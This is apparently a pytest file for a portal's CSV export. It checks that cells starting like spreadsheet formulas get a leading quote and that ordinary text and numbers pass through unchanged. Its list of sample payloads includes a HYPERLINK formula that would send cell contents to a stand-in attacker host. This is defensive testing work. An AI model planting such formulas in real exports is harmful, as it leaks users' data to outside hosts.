"""CSV exports neutralise spreadsheet formulas (CSV injection): one rule, ``portal.exports.safe_cell``."""

import csv
import io

import pytest

from portal.exports import csv_response, safe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "@SUM(1+1)", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_cell_that_starts_like_a_formula_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["张三", "城关镇-发布", "2026-11-09", "a=b", "", " =1", "'=1"])
def test_ordinary_text_is_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-2, 3.5, 0, None])
def test_real_numbers_stay_numbers(value):
    assert safe_cell(value) == value


def test_the_response_neutralises_every_cell_and_starts_with_a_bom():
    data = csv_response("x.csv", ["姓名", "数量"], [[value, -2] for value in HOSTILE]).getvalue()

    assert data.startswith("\ufeff".encode())
    rows = read_csv(data)
    assert rows[0] == ["姓名", "数量"]
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-2"}


def test_the_response_is_a_download_with_a_chinese_file_name():
    response = csv_response("新媒体-2026.csv", ["a"], [])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%E6%96%B0%E5%AA%92%E4%BD%93-2026.csv"
